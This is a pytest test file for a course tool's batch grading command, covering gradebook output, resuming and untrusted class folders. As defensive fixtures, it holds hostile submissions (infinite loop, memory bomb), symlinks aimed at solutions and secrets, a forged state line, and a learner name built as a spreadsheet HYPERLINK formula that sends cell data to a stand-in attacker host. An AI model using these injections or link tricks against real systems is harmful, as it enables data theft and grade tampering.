"""`quizkit grade`: a whole class graded into a gradebook, feedback files and a resumable state.

The grading logic (discovery, the untrusted folder, resuming, the gradebook) is tested with a
MockRunner that runs these tests' own, trusted learner files in process and reports the hostile
ones as the sandbox would, so no process is started. A few tests marked ``slow`` grade through the
real sandbox: hostile files, an interrupted run.
"""

from __future__ import annotations

import csv
import ctypes
import json
import os
import re
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import ClassVar

import pytest
from click.testing import CliRunner, Result
from conftest import default_sigint

from quizkit import grade as grade_module
from quizkit.cli import main
from quizkit.sandbox import InProcessRunner, Job, RunResult, RunStatus
from quizkit.testing import MockRunner, run_result

LESSON = """\
id: batch
title: Batch grading
exercises:
  - id: clamp
    title: Clamp
    prompt: Zero the entries whose sign flipped.
    points: 2
    parameters: [before, after]
    time_limit: 1
    memory_mb: 256
    cases:
      - name: one flip
        args: {before: [0.5, -0.3, 0.2], after: [-0.1, -0.2, 0.1]}
      - name: starting at zero is not a flip
        args: {before: [0.0, 0.0], after: [0.3, -0.3]}
  - id: double
    title: Double
    prompt: Return 2 * x.
    parameters: [x]
    time_limit: 1
    memory_mb: 256
    cases:
      - name: two
        args: {x: 2.0}
      - name: vector
        args: {x: [1.0, -1.5]}
"""
# The small clamp exercise these tests build their course around.
CLAMP = (Path(__file__).parent / "data" / "clamp_reference.py").read_text(encoding="utf-8")
CLAMP_LESS_EQUAL = CLAMP.replace("< 0", "<= 0")  # also clamps weights that start at zero
CLAMP_UNCHANGED = "import numpy as np\n\ndef clamp(before, after):\n    return np.array(after, dtype=float)\n"
DOUBLE = "import numpy as np\n\ndef double(x):\n    return 2 * np.asarray(x, dtype=float)\n"
DOUBLE_PLUS_TWO = "import numpy as np\n\ndef double(x):\n    return np.asarray(x, dtype=float) + 2\n"
DOUBLE_RAISES = "def double(x):\n    raise ValueError('not yet')\n"
LOOPS_FOREVER = "def clamp(before, after):\n    while True:\n        pass\n"
EXITS_ON_IMPORT = "import sys\nsys.exit(0)\n\ndef double(x):\n    return 2 * x\n"
MEMORY_BOMB = (
    "def clamp(before, after):\n    hoard = []\n    while True:\n        hoard.append(bytearray(50_000_000))\n"
)

# What each kind of learner hands in, and the points it earns: clamp (of 2), double (of 1).
PROFILES: dict[str, dict[str, str]] = {
    "correct": {"clamp": CLAMP, "double": DOUBLE},
    "less_equal": {"clamp": CLAMP_LESS_EQUAL, "double": DOUBLE},
    "buggy": {"clamp": CLAMP_UNCHANGED, "double": DOUBLE_PLUS_TWO},
    "double_only": {"double": DOUBLE},
    "raises": {"clamp": CLAMP, "double": DOUBLE_RAISES},
}
ROTATION = ["correct"] * 5 + ["less_equal", "buggy", "double_only", "flat", "raises"]
HOSTILE = {
    "learner197": ("clamp", LOOPS_FOREVER),
    "learner198": ("double", EXITS_ON_IMPORT),
    "learner199": ("clamp", MEMORY_BOMB),
}


# Markers in the hostile sources, and what the sandbox reports for them (the slow tests check that
# the real sandbox does report these).
CANNED: dict[bytes, tuple[RunStatus, str]] = {
    b"while True:\n        pass": (
        RunStatus.TIMEOUT,
        "your code ran longer than 1 s in call 1 of 2 (an infinite loop?)",
    ),
    b"sys.exit(0)": (RunStatus.EXITED, "your code called sys.exit(0) while being imported"),
    b"bytearray(50_000_000)": (RunStatus.MEMORY_LIMIT, "your code ran out of memory in call 1 of 2"),
}


def fake_sandbox(job: Job) -> RunResult:
    """What the sandbox would report: hostile files canned, the tests' own files run in process."""
    assert not isinstance(job.source, Path), "grade hands the sandbox the bytes it read, never a path"
    for marker, (status, message) in CANNED.items():
        if marker in job.source.data:
            return run_result([], status, message)
    return InProcessRunner().run(job)


@pytest.fixture(autouse=True, scope="module")
def grading_home(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """Keep the grading key out of the real home folder."""
    home = tmp_path_factory.mktemp("home")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("QUIZKIT_HOME", str(home))
        yield home


@pytest.fixture
def mock_sandbox(monkeypatch: pytest.MonkeyPatch) -> list[Job]:
    """`quizkit grade` runs through a MockRunner; the list fills with the jobs it was given."""
    jobs: list[Job] = []

    def handler(job: Job) -> RunResult:
        jobs.append(job)
        return fake_sandbox(job)

    monkeypatch.setattr(grade_module, "default_runner", lambda options: MockRunner(handler))
    return jobs


@dataclass(frozen=True)
class Course:
    root: Path
    reference_dir: Path

    def grade(self, directory: Path, out: Path, *extra: str) -> Result:
        args = [
            "--course",
            str(self.root),
            "grade",
            str(directory),
            "--lesson",
            "batch",
            "--out",
            str(out),
            "--jobs",
            "2",
            *extra,
        ]
        return CliRunner().invoke(main, args, catch_exceptions=False)


def make_course(root: Path, lesson: str = LESSON) -> Course:
    lesson_dir = root / "exercises" / "batch"
    solutions = root / "solutions" / "batch"
    lesson_dir.mkdir(parents=True)
    solutions.mkdir(parents=True)
    (lesson_dir / "lesson.yaml").write_text(lesson, encoding="utf-8")
    for name, reference in (("clamp", CLAMP), ("double", DOUBLE)):
        (solutions / f"{name}.py").write_text(reference, encoding="utf-8")
        (lesson_dir / f"{name}.py").write_text(f"def {name}(*args):\n    raise NotImplementedError\n", encoding="utf-8")
    return Course(root, solutions)


def make_class(folder: Path, learners: int, *, hostile: bool = True, pause: float = 0.0) -> None:
    """``learners`` learners cycling through ROTATION; with ``hostile``, the last three misbehave.
    ``pause``: seconds each honest file sleeps when imported (a run that must last a while)."""
    folder.mkdir(parents=True)
    prefix = f"import time\ntime.sleep({pause!r})\n" if pause else ""
    for number in range(learners):
        learner = f"learner{number:03d}"
        if hostile and learner in HOSTILE:
            exercise, source = HOSTILE[learner]
            (folder / learner).mkdir()
            (folder / learner / f"{exercise}.py").write_text(source, encoding="utf-8")
            continue
        profile = ROTATION[number % len(ROTATION)]
        if profile == "flat":
            for exercise, source in PROFILES["correct"].items():
                (folder / f"{learner}__{exercise}.py").write_text(prefix + source, encoding="utf-8")
            continue
        (folder / learner).mkdir()
        for exercise, source in PROFILES[profile].items():
            (folder / learner / f"{exercise}.py").write_text(prefix + source, encoding="utf-8")


def read_gradebook(path: Path) -> tuple[list[str], dict[str, list[str]]]:
    with path.open(encoding="utf-8", newline="") as handle:
        header, *rows = list(csv.reader(handle))
    return header, {row[0]: row[1:] for row in rows}


def feedback_of(out: Path, learner: str) -> dict:
    return json.loads((out.parent / "feedback" / f"{learner}.json").read_text(encoding="utf-8"))


def graded_count(output: str) -> int:
    match = re.search(r"graded (\d+) file\(s\)", output)
    assert match, output
    return int(match.group(1))


@dataclass(frozen=True)
class GradedClass:
    course: Course
    directory: Path
    out: Path
    result: Result


def grade_a_class(root: Path, learners: int) -> GradedClass:
    course = make_course(root / "course")
    directory = root / "class"
    make_class(directory, learners)
    (directory / "learner000" / "notes.txt").write_text("my notes", encoding="utf-8")
    (directory / "stray.txt").write_text("?", encoding="utf-8")
    out = root / "out" / "grades.csv"
    return GradedClass(course, directory, out, course.grade(directory, out))


@pytest.fixture(scope="module")
def graded_class(tmp_path_factory: pytest.TempPathFactory) -> GradedClass:
    """200 learners (three hostile), with two stray files, graded once through the MockRunner."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(grade_module, "default_runner", lambda options: MockRunner(fake_sandbox))
        graded = grade_a_class(tmp_path_factory.mktemp("grade"), 200)
    return graded


# --- the gradebook and the feedback -----------------------------------------------------------


def test_grading_a_class_succeeds_and_reports_what_it_did(graded_class: GradedClass) -> None:
    assert graded_class.result.exit_code == 0, graded_class.result.output
    assert graded_count(graded_class.result.output) == len(list(graded_class.directory.rglob("*.py")))
    assert "from 200 learner(s)" in graded_class.result.output


def test_the_gradebook_has_a_row_per_learner_sorted_with_a_column_per_exercise(graded_class: GradedClass) -> None:
    header, rows = read_gradebook(graded_class.out)
    assert header == ["learner", "clamp", "double", "total", "max", "notes"]
    assert list(rows) == sorted(rows) == [f"learner{n:03d}" for n in range(200)]
    assert all(row[-2] == "3" for row in rows.values())


@pytest.mark.parametrize(
    ("learner", "clamp", "double", "total"),
    [
        ("learner000", "2", "1", "3"),  # correct, one folder per learner
        ("learner005", "1", "1", "2"),  # `<=` clamps weights that start at zero: one case fails
        ("learner006", "1", "0.5", "1.5"),  # buggy in both
        ("learner007", "", "1", "1"),  # did not hand in clamp
        ("learner008", "2", "1", "3"),  # correct, flat learner__exercise.py files
        ("learner009", "2", "0", "2"),  # double raises
        ("learner197", "0", "", "0"),  # infinite loop
        ("learner198", "", "0", "0"),  # sys.exit while being imported
        ("learner199", "0", "", "0"),  # memory bomb
    ],
)
def test_each_learner_gets_the_points_their_files_earn(
    graded_class: GradedClass, learner: str, clamp: str, double: str, total: str
) -> None:
    _, rows = read_gradebook(graded_class.out)
    assert rows[learner] == [clamp, double, total, "3", ""]


def test_every_learner_gets_a_feedback_file_with_the_json_report_of_each_file(graded_class: GradedClass) -> None:
    feedback = graded_class.out.parent / "feedback"
    assert len(list(feedback.glob("*.json"))) == 200
    document = feedback_of(graded_class.out, "learner006")
    assert (document["learner"], document["lesson"], document["score"], document["max_score"]) == (
        "learner006",
        "batch",
        1.5,
        3.0,
    )
    assert list(document["files"]) == ["clamp", "double"]
    clamp = document["files"]["clamp"]
    assert clamp["format"] == "quizkit-results/1"
    [result] = clamp["results"]
    assert result["exercise"] == "clamp"
    assert [test["status"] for test in result["tests"]] == ["failed", "passed"]


def test_feedback_names_the_file_below_the_class_folder(graded_class: GradedClass) -> None:
    [result] = feedback_of(graded_class.out, "learner006")["files"]["clamp"]["results"]
    [flat] = feedback_of(graded_class.out, "learner008")["files"]["double"]["results"]
    assert (result["file"], flat["file"]) == ("learner006/clamp.py", "learner008__double.py")


@pytest.mark.parametrize(
    ("learner", "exercise", "run_status"),
    [("learner197", "clamp", "timeout"), ("learner198", "double", "exited"), ("learner199", "clamp", "memory_limit")],
)
def test_files_that_fail_to_run_get_the_reason_in_their_feedback(
    graded_class: GradedClass, learner: str, exercise: str, run_status: str
) -> None:
    [result] = feedback_of(graded_class.out, learner)["files"][exercise]["results"]
    assert result["run_status"] == run_status
    assert result["run_message"]


def test_files_that_match_no_exercise_are_listed_as_skipped(graded_class: GradedClass) -> None:
    output = graded_class.result.output
    assert re.search(r"warning: skipped learner000/notes\.txt: not an exercise of batch", output)
    assert re.search(r"warning: skipped stray\.txt: not an exercise of batch", output)


def test_grade_runs_the_bytes_it_read_not_the_path(tmp_path: Path, mock_sandbox: list[Job]) -> None:
    course = make_course(tmp_path / "course")
    (tmp_path / "class" / "alice").mkdir(parents=True)
    (tmp_path / "class" / "alice" / "double.py").write_text(DOUBLE, encoding="utf-8")
    course.grade(tmp_path / "class", tmp_path / "out" / "grades.csv")
    [job] = mock_sandbox
    assert (job.source.name, job.source.data) == ("double.py", DOUBLE.encode())


# --- resuming ---------------------------------------------------------------------------------


@pytest.fixture
def small_class(tmp_path: Path, mock_sandbox: list[Job]) -> tuple[Course, Path, Path]:
    course = make_course(tmp_path / "course")
    directory = tmp_path / "class"
    make_class(directory, 20, hostile=False)
    return course, directory, tmp_path / "out" / "grades.csv"


def test_a_second_run_over_an_unchanged_class_grades_nothing(small_class: tuple[Course, Path, Path]) -> None:
    course, directory, out = small_class
    first = course.grade(directory, out)
    again = course.grade(directory, out)
    assert graded_count(first.output) == 38
    assert graded_count(again.output) == 0
    assert "reused 38 unchanged" in again.output


def test_only_a_changed_file_is_graded_again_and_the_learners_feedback_keeps_the_rest(
    small_class: tuple[Course, Path, Path],
) -> None:
    course, directory, out = small_class
    course.grade(directory, out)
    (directory / "learner000" / "clamp.py").write_text(CLAMP_LESS_EQUAL, encoding="utf-8")
    result = course.grade(directory, out)
    assert graded_count(result.output) == 1
    _, rows = read_gradebook(out)
    assert rows["learner000"] == ["1", "1", "2", "3", ""]
    document = feedback_of(out, "learner000")
    assert list(document["files"]) == ["clamp", "double"] and document["score"] == 2.0


def test_changing_a_reference_solution_grades_its_exercise_again(small_class: tuple[Course, Path, Path]) -> None:
    course, directory, out = small_class
    course.grade(directory, out)
    clamp_files = len(list(directory.glob("*/clamp.py"))) + len(list(directory.glob("*__clamp.py")))
    with (course.reference_dir / "clamp.py").open("a", encoding="utf-8") as handle:
        handle.write("# reviewed\n")
    assert graded_count(course.grade(directory, out).output) == clamp_files


def test_restart_grades_everything_again(small_class: tuple[Course, Path, Path]) -> None:
    course, directory, out = small_class
    course.grade(directory, out)
    assert graded_count(course.grade(directory, out, "--restart").output) == 38


def state_lines(out: Path) -> list[str]:
    return out.with_name("grades.csv.state.jsonl").read_text(encoding="utf-8").splitlines(keepends=True)


def state_record(line: str) -> dict:
    """The JSON of a state line (after its MAC)."""
    return json.loads(line.partition(" ")[2])


def test_a_state_line_cut_short_by_a_kill_only_costs_that_learner(small_class: tuple[Course, Path, Path]) -> None:
    course, directory, out = small_class
    course.grade(directory, out)
    lines = state_lines(out)
    last = state_record(lines[-1])
    out.with_name("grades.csv.state.jsonl").write_text("".join(lines[:-1]) + lines[-1][: len(lines[-1]) // 2])
    result = course.grade(directory, out)
    assert result.exit_code == 0
    assert graded_count(result.output) == len(last["files"])
    assert graded_count(course.grade(directory, out).output) == 0  # the cut line does not swallow the next one


def test_an_interrupt_after_a_group_is_written_records_each_learner_once(
    small_class: tuple[Course, Path, Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    course, directory, out = small_class
    real_fsync = os.fsync
    state = out.with_name("grades.csv.state.jsonl")
    interrupts = []

    def interrupted_after_the_write(fd: int) -> None:
        real_fsync(fd)
        if os.readlink(f"/proc/self/fd/{fd}") == str(state) and not interrupts:  # the group is in the file now
            interrupts.append(fd)
            raise KeyboardInterrupt

    monkeypatch.setattr(os, "fsync", interrupted_after_the_write)
    monkeypatch.setattr(grade_module._StateWriter, "GROUP_SECONDS", 0.0)  # a group per learner: the first is cut
    assert course.grade(directory, out).exit_code == 130
    learners = [state_record(line)["learner"] for line in state_lines(out)[1:]]
    assert learners and len(learners) == len(set(learners))


def test_a_forged_state_line_is_ignored_with_a_warning_and_its_learner_graded_again(
    small_class: tuple[Course, Path, Path],
) -> None:
    course, directory, out = small_class
    course.grade(directory, out)
    (directory / "learner006" / "clamp.py").write_text(CLAMP, encoding="utf-8")  # now worth 2 points
    lines = state_lines(out)
    number, line = next((n, line) for n, line in enumerate(lines) if state_record(line).get("learner") == "learner006")
    record = state_record(line)
    # The attacker knows how fingerprints are made, but not the key: a perfect score with a made-up MAC.
    record["files"]["clamp"].update(score=0.0)
    record["files"]["double"].update(score=1.0)
    lines[number] = "0" * 64 + " " + json.dumps(record) + "\n"
    out.with_name("grades.csv.state.jsonl").write_text("".join(lines), encoding="utf-8")
    result = course.grade(directory, out)
    assert re.search(r"warning: .*line not authentic.*learner learner006 is graded again", result.output)
    assert graded_count(result.output) == 2
    assert read_gradebook(out)[1]["learner006"][:3] == ["2", "0.5", "2.5"]


def test_a_state_line_from_another_key_is_not_trusted(
    small_class: tuple[Course, Path, Path], grading_home: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    course, directory, out = small_class
    course.grade(directory, out)
    monkeypatch.setenv("QUIZKIT_HOME", str(tmp_path / "another-home"))
    result = course.grade(directory, out)
    assert "not an authentic state file" in result.output
    assert graded_count(result.output) == 38


def test_the_grading_key_is_private_to_the_user(small_class: tuple[Course, Path, Path], grading_home: Path) -> None:
    course, directory, out = small_class
    course.grade(directory, out)
    key = grading_home / "grading.key"
    assert key.stat().st_mode & 0o777 == 0o600 and key.stat().st_size == 32


def test_gradebook_and_feedback_inside_the_class_folder_are_not_taken_for_learners(
    small_class: tuple[Course, Path, Path],
) -> None:
    course, directory, _ = small_class
    out = directory / "grades.csv"
    course.grade(directory, out)
    again = course.grade(directory, out)
    assert graded_count(again.output) == 0
    assert "skipped" not in again.output
    assert "feedback" not in read_gradebook(out)[1]


def test_a_missing_class_folder_is_a_usage_error(small_class: tuple[Course, Path, Path], tmp_path: Path) -> None:
    course, _, out = small_class
    result = course.grade(tmp_path / "nowhere", out)
    assert result.exit_code == 2
    assert "not a directory" in result.output


# --- the class folder is untrusted input ------------------------------------------------------


@pytest.fixture
def course(tmp_path: Path, mock_sandbox: list[Job]) -> Course:
    return make_course(tmp_path / "course")


def honest_class(folder: Path) -> Path:
    """Two honest learners; tests add an odd one beside them."""
    for learner in ("alice", "bob"):
        (folder / learner).mkdir(parents=True)
        (folder / learner / "double.py").write_text(DOUBLE, encoding="utf-8")
    return folder


def everything_written(out: Path) -> str:
    """Every output of a run, to check that nothing of a secret leaked into any of them."""
    texts = [out.read_text(encoding="utf-8")]
    texts += [path.read_text(encoding="utf-8") for path in (out.parent / "feedback").glob("*.json")]
    return "\n".join(texts)


def assert_honest_rows_intact(out: Path) -> None:
    _, rows = read_gradebook(out)
    assert rows["alice"] == rows["bob"] == ["", "1", "1", "3", ""]


def test_a_learner_folder_linked_to_the_solutions_gets_nothing(course: Course, tmp_path: Path) -> None:
    directory = honest_class(tmp_path / "class")
    (directory / "mallory").symlink_to(course.reference_dir, target_is_directory=True)
    out = tmp_path / "out" / "grades.csv"
    result = course.grade(directory, out)
    assert result.exit_code == 0
    row = read_gradebook(out)[1]["mallory"]
    assert row[:4] == ["", "", "0", "3"] and "symbolic link" in row[4]
    assert re.search(r"warning: mallory: mallory is a symbolic link, not a folder; it was not followed", result.output)
    assert_honest_rows_intact(out)


def test_a_file_linked_to_a_reference_solution_is_not_opened(course: Course, tmp_path: Path) -> None:
    directory = honest_class(tmp_path / "class")
    (directory / "mallory").mkdir()
    (directory / "mallory" / "clamp.py").symlink_to(course.reference_dir / "clamp.py")
    out = tmp_path / "out" / "grades.csv"
    result = course.grade(directory, out)
    row = read_gradebook(out)[1]["mallory"]
    assert row[:3] == ["0", "", "0"]
    assert "mallory/clamp.py is a symbolic link, not a regular file; it was not opened" in row[4]
    assert "mallory/clamp.py is a symbolic link" in result.output
    [clamp] = feedback_of(out, "mallory")["files"]["clamp"]["results"]
    assert clamp["run_status"] == "unreadable" and clamp["score"] == 0


def test_a_file_linked_to_a_classmates_file_is_not_opened(course: Course, tmp_path: Path) -> None:
    directory = honest_class(tmp_path / "class")
    (directory / "mallory").mkdir()
    (directory / "mallory" / "double.py").symlink_to(Path("..") / "alice" / "double.py")
    out = tmp_path / "out" / "grades.csv"
    course.grade(directory, out)
    assert read_gradebook(out)[1]["mallory"][:3] == ["", "0", "0"]
    assert_honest_rows_intact(out)


def test_a_file_linked_to_a_private_file_never_leaks_it(course: Course, tmp_path: Path) -> None:
    secret = tmp_path / "gradebook-secret.txt"
    secret.write_text("def double(x):\n    TOP-SECRET-4711 +\n", encoding="utf-8")  # a SyntaxError would quote it
    secret.chmod(0o600)
    directory = honest_class(tmp_path / "class")
    (directory / "mallory__double.py").symlink_to(secret)
    out = tmp_path / "out" / "grades.csv"
    result = course.grade(directory, out)
    assert "TOP-SECRET" not in everything_written(out) + result.output
    assert read_gradebook(out)[1]["mallory"][:3] == ["", "0", "0"]


def test_a_link_to_dev_zero_is_not_read(course: Course, tmp_path: Path) -> None:
    directory = honest_class(tmp_path / "class")
    (directory / "mallory__double.py").symlink_to("/dev/zero")
    out = tmp_path / "out" / "grades.csv"
    result = course.grade(directory, out)
    assert result.exit_code == 0
    assert read_gradebook(out)[1]["mallory"][:3] == ["", "0", "0"]
    assert_honest_rows_intact(out)


@contextmanager
def time_limit(seconds: int) -> Iterator[None]:
    """Fail the test instead of hanging when the code under test blocks."""

    def expire(signum: int, frame: object) -> None:
        raise TimeoutError(f"still running after {seconds} s")

    previous = signal.signal(signal.SIGALRM, expire)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)


def test_a_fifo_is_reported_without_hanging(course: Course, tmp_path: Path) -> None:
    directory = honest_class(tmp_path / "class")
    (directory / "mallory").mkdir()
    os.mkfifo(directory / "mallory" / "double.py")
    out = tmp_path / "out" / "grades.csv"
    with time_limit(30):
        result = course.grade(directory, out)
    row = read_gradebook(out)[1]["mallory"]
    assert row[:3] == ["", "0", "0"] and "is a FIFO" in row[4]
    assert "mallory/double.py is a FIFO" in result.output


def test_a_fifo_swapped_in_after_discovery_does_not_hang_the_grader(tmp_path: Path) -> None:
    from quizkit.grade import Submission, UnreadableSubmission, read_submission

    os.mkfifo(tmp_path / "double.py")
    root = os.open(tmp_path, os.O_RDONLY | os.O_DIRECTORY)
    try:
        with time_limit(30), pytest.raises(UnreadableSubmission, match="is a FIFO"):
            read_submission(root, Submission("alice", "double", ("double.py",)), 1000)
    finally:
        os.close(root)


def test_a_dangling_link_is_a_row_not_a_crash(course: Course, tmp_path: Path) -> None:
    directory = honest_class(tmp_path / "class")
    (directory / "mallory__double.py").symlink_to(tmp_path / "nowhere.py")
    out = tmp_path / "out" / "grades.csv"
    result = course.grade(directory, out)
    assert result.exit_code == 0
    assert read_gradebook(out)[1]["mallory"][:3] == ["", "0", "0"]
    assert_honest_rows_intact(out)


def test_a_link_loop_is_a_row_not_a_crash(course: Course, tmp_path: Path) -> None:
    directory = honest_class(tmp_path / "class")
    (directory / "mallory").symlink_to(directory / "mallory")
    (directory / "trudy__double.py").symlink_to(directory / "trudy__double.py")
    out = tmp_path / "out" / "grades.csv"
    result = course.grade(directory, out)
    assert result.exit_code == 0
    _, rows = read_gradebook(out)
    assert rows["mallory"][2] == "0" and rows["trudy"][:3] == ["", "0", "0"]
    assert_honest_rows_intact(out)


@pytest.mark.skipif(os.geteuid() == 0, reason="root reads every file")
def test_an_unreadable_file_is_a_row_with_the_reason(course: Course, tmp_path: Path) -> None:
    directory = honest_class(tmp_path / "class")
    (directory / "mallory").mkdir()
    (directory / "mallory" / "double.py").write_text(DOUBLE, encoding="utf-8")
    (directory / "mallory" / "double.py").chmod(0)
    out = tmp_path / "out" / "grades.csv"
    result = course.grade(directory, out)
    row = read_gradebook(out)[1]["mallory"]
    assert row[:3] == ["", "0", "0"] and "could not be read: Permission denied" in row[4]
    assert "mallory/double.py could not be read" in result.output


@pytest.mark.skipif(os.geteuid() == 0, reason="root reads every folder")
def test_an_unreadable_learner_folder_is_a_row_with_the_reason(course: Course, tmp_path: Path) -> None:
    directory = honest_class(tmp_path / "class")
    (directory / "mallory").mkdir(mode=0)
    out = tmp_path / "out" / "grades.csv"
    try:
        course.grade(directory, out)
    finally:
        (directory / "mallory").chmod(0o700)
    row = read_gradebook(out)[1]["mallory"]
    assert row[2] == "0" and "could not be" in row[4]


def test_a_file_over_the_size_limit_is_a_row_with_the_reason(course: Course, tmp_path: Path) -> None:
    from quizkit.sandbox import MAX_SOURCE_BYTES

    directory = honest_class(tmp_path / "class")
    (directory / "mallory__double.py").write_bytes(b"#" * (MAX_SOURCE_BYTES + 1))
    out = tmp_path / "out" / "grades.csv"
    course.grade(directory, out)
    row = read_gradebook(out)[1]["mallory"]
    assert row[:3] == ["", "0", "0"] and f"the limit is {MAX_SOURCE_BYTES}" in row[4]


def test_an_empty_learner_folder_is_a_row_not_a_silence(course: Course, tmp_path: Path) -> None:
    directory = honest_class(tmp_path / "class")
    (directory / "carol").mkdir()
    out = tmp_path / "out" / "grades.csv"
    result = course.grade(directory, out)
    row = read_gradebook(out)[1]["carol"]
    assert row[:4] == ["", "", "0", "3"] and "holds no exercise file" in row[4]
    assert "warning: carol: carol/ holds no exercise file" in result.output
    assert feedback_of(out, "carol")["problems"] == [row[4]]


def test_a_learner_named_like_a_formula_is_defused_in_the_gradebook(course: Course, tmp_path: Path) -> None:
    directory = honest_class(tmp_path / "class")
    name = '=HYPERLINK("https:evil.example?"&A1,"click")'
    (directory / f"{name}__double.py").write_text(DOUBLE, encoding="utf-8")
    (directory / f"+{name}").mkdir()  # an empty folder: its note starts with the name too
    out = tmp_path / "out" / "grades.csv"
    course.grade(directory, out)
    _, rows = read_gradebook(out)
    assert rows["'" + name] == ["", "1", "1", "3", ""]
    assert rows["'+" + name][-1].startswith("'+=HYPERLINK")
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows.items() for cell in (row[0], *row[1]))


@pytest.mark.parametrize(
    "name",
    [b"..", b"a\nb", b"\x1b[31mred", b"caf\xe9-latin1", b"x" * 240, b"@SUM(1)", b"-2+3"],
    ids=["dotdot", "newline", "escape", "not-utf8", "long", "at", "minus"],
)
def test_a_hostile_learner_name_stays_in_the_feedback_folder_and_one_csv_row(
    course: Course, tmp_path: Path, name: bytes
) -> None:
    directory = honest_class(tmp_path / "class")
    with open(os.path.join(os.fsencode(directory), name + b"__double.py"), "w", encoding="utf-8") as handle:
        handle.write(DOUBLE)
    out = tmp_path / "out" / "grades.csv"
    result = course.grade(directory, out)
    assert result.exit_code == 0
    _, rows = read_gradebook(out)
    assert len(rows) == 3
    [odd] = [learner for learner in rows if learner not in ("alice", "bob")]
    assert rows[odd] == ["", "1", "1", "3", ""]
    assert "\n" not in odd and "\x1b" not in odd and not odd.startswith(("=", "+", "-", "@"))
    files = sorted(path.name for path in (out.parent / "feedback").iterdir())
    assert len(files) == 3 and all(
        path.parent == out.parent / "feedback" for path in (out.parent / "feedback").iterdir()
    )
    assert not (tmp_path / "out" / "..json").exists() and not (tmp_path / "..json").exists()


def test_an_unwritable_out_is_one_line_and_exit_2_before_grading(course: Course, tmp_path: Path) -> None:
    directory = honest_class(tmp_path / "class")
    (tmp_path / "a-file").write_text("", encoding="utf-8")
    result = course.grade(directory, tmp_path / "a-file" / "grades.csv")
    assert result.exit_code == 2
    assert result.output.count("\n") == 1 and result.output.startswith("quizkit: error: cannot write to")


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes into read-only folders")
def test_a_read_only_out_folder_is_one_line_and_exit_2(course: Course, tmp_path: Path) -> None:
    directory = honest_class(tmp_path / "class")
    (tmp_path / "ro").mkdir(mode=0o500)
    result = course.grade(directory, tmp_path / "ro" / "grades.csv")
    assert result.exit_code == 2 and "cannot write to" in result.output


def test_a_file_whose_grading_raises_is_a_grader_error_row_and_the_batch_goes_on(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    course = make_course(tmp_path / "course")

    def handler(job: Job) -> RunResult:
        if b"# trips the grader" in job.source.data:
            raise RecursionError("maximum recursion depth exceeded while removing a job folder")
        return fake_sandbox(job)

    monkeypatch.setattr(grade_module, "default_runner", lambda options: MockRunner(handler))
    directory = honest_class(tmp_path / "class")
    (directory / "mallory__double.py").write_text(DOUBLE + "# trips the grader\n", encoding="utf-8")
    out = tmp_path / "out" / "grades.csv"
    result = course.grade(directory, out)
    assert result.exit_code == 0
    row = read_gradebook(out)[1]["mallory"]
    assert row[:3] == ["", "0", "0"] and "grader error" in row[4] and "RecursionError" in row[4]
    assert "warning: mallory: double: grader error" in result.output
    [double] = feedback_of(out, "mallory")["files"]["double"]["results"]
    assert double["run_status"] == "grader_error"
    assert_honest_rows_intact(out)


def test_a_grader_error_is_tried_again_on_the_next_run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    course = make_course(tmp_path / "course")
    broken = {"now": True}

    def handler(job: Job) -> RunResult:
        if broken["now"] and b"mallory" in job.source.data:
            raise OSError("the executor went away")
        return fake_sandbox(job)

    monkeypatch.setattr(grade_module, "default_runner", lambda options: MockRunner(handler))
    directory = honest_class(tmp_path / "class")
    (directory / "mallory__double.py").write_text(DOUBLE + "# mallory\n", encoding="utf-8")
    out = tmp_path / "out" / "grades.csv"
    course.grade(directory, out)
    broken["now"] = False
    assert graded_count(course.grade(directory, out).output) == 1
    assert read_gradebook(out)[1]["mallory"] == ["", "1", "1", "3", ""]


def test_the_grading_key_may_not_live_inside_the_class_folder(
    course: Course, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    directory = honest_class(tmp_path / "class")
    monkeypatch.setenv("QUIZKIT_HOME", str(directory / ".quizkit"))
    result = course.grade(directory, tmp_path / "out" / "grades.csv")
    assert result.exit_code == 2 and "would lie inside" in result.output and result.output.count("\n") == 1


def test_feedback_of_a_hidden_case_says_failed_and_nothing_more(tmp_path: Path, mock_sandbox: list[Job]) -> None:
    hidden = LESSON.replace(
        "      - name: vector\n        args: {x: [1.0, -1.5]}",
        "      - name: vector\n        hidden: true\n        args: {x: [1.0, -1.5]}",
    )
    course = make_course(tmp_path / "course", hidden)
    (tmp_path / "class").mkdir()
    scalar_only = "def double(x):\n    print('got', x)\n    return 2 * float(x)\n"
    (tmp_path / "class" / "alice__double.py").write_text(scalar_only, encoding="utf-8")
    out = tmp_path / "out" / "grades.csv"
    course.grade(tmp_path / "class", out)
    text = (out.parent / "feedback" / "alice.json").read_text(encoding="utf-8")
    [result] = json.loads(text)["files"]["double"]["results"]
    assert [(t["name"], t["hidden"], t["status"]) for t in result["tests"]] == [
        ("two", False, "passed"),
        ("vector", True, "failed"),
    ]
    assert "-1.5" not in text and "1.0, " not in text and result["output_withheld"] is True


# --- grade-time seeds and isolation -----------------------------------------------------------

RANDOM_LESSON = (
    LESSON
    + """\
  - id: shrink
    title: Shrink
    prompt: Return x / 2.
    parameters: [x]
    time_limit: 1
    random:
      - name: draws
        seed: 3
        count: 4
        args:
          x: {low: -1, high: 1, shape: [3]}
"""
)
SHRINK = "import numpy as np\n\ndef shrink(x):\n    return np.asarray(x) / 2\n"


@pytest.fixture
def random_course(tmp_path: Path, mock_sandbox: list[Job]) -> tuple[Course, Path]:
    course = make_course(tmp_path / "course", RANDOM_LESSON)
    (course.reference_dir / "shrink.py").write_text(SHRINK, encoding="utf-8")
    (course.root / "exercises" / "batch" / "shrink.py").write_text("def shrink(x):\n    pass\n", encoding="utf-8")
    directory = tmp_path / "class"
    (directory / "alice").mkdir(parents=True)
    (directory / "alice" / "shrink.py").write_text(SHRINK, encoding="utf-8")
    return course, directory


